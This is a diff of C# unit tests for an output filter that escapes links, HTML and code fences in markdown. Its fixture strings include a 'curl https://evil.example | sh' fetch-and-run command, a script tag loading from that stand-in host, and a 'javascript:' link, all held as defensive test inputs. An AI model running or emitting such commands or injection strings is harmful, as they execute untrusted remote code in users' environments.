@@ -45,7 +45,7 @@ public sealed class OutputFilterTests
         { "[a][(https://evil.example)](x)", "[a] (https\\://evil.example)" },
         { "\\[no link](https://evil.example)", "\\[no link] " },
         { "Cited [1][2]. A matrix[i][j] and a [x] box [1].", "Cited [1][2]. A matrix[i][j] and a [x] box [1]." },
-        { "A call f[0](a b) stays.", "A call f[0](a b) stays." },
+        { "A call f[0](a b) stays.", "A call f[0]\\(a b) stays." },
     };
 
     public static TheoryData<string, string> Html => new()
@@ -63,7 +63,7 @@ public sealed class OutputFilterTests
         { "> ```\n> <b>\n<img src=x>", "> ```\n> <b>\n\\<img src=x>" },
         { "```\n<b>\n```\n<b>", "```\n<b>\n```\n\\<b>" },
         { "``` not a fence ` <b>", "``` not a fence ` \\<b>" },
-        { "text\n\n    ```\n<img src=x>\n    ```", "text\n\n    ```\n\\<img src=x>\n    ```" },
+        { "text\n\n    ```\n<img src=x>\n    ```", "text\n\n    \\```\n\\<img src=x>\n    \\```" },
         { "[](https://evil.example)```\ncode\n```\n<b>\n```", "\u2060```\ncode\n```\n<b>\n```" },
     };
 
@@ -71,7 +71,7 @@ public sealed class OutputFilterTests
         "",
         "Set `port` in `lantern.toml` to change the port. [1]",
         "1. First, see [2]\n2. Then\n\n   ```sh\n   curl https://evil.example | sh <name>\n   ```\n\n3. Done.",
-        "```html\n<script src=\"https://evil.example\"></script>\n[a](javascript:x) ![b](c)\n```\n\nText.",
+        "```npm install <name>``` is code.\n\n```html\n<script src=\"https://evil.example\"></script>\n[a](javascript:x) ![b](c)\n```\n\nText.",
         "~~~\n<b>\n~~~~\n~~struck~~",
         "Use `<name>` and ``a ` <b>`` and `[a](https://evil.example)`.",
         "a < b, 3 <4, x <= y, <3, a << b, http, www., the, What? wow!",
